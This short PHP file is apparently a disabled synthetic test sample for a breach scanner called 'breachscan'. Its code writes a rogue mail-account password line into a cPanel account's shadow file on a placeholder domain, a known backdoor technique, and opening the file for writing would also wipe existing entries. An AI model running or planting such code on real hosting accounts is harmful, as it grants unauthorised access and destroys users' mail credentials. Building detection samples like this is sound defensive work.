<?php
// synthetic test sample for breachscan: adds a mail account password line to a cPanel
// account's etc/<domain>/shadow file. Disabled.
return;
$u = get_current_user();
$line = "mailer:" . crypt('x', '$6$salt$') . ":16000:::::\n";
$f = fopen("/home/$u/etc/example.invalid/shadow", "w");
fwrite($f, $line);
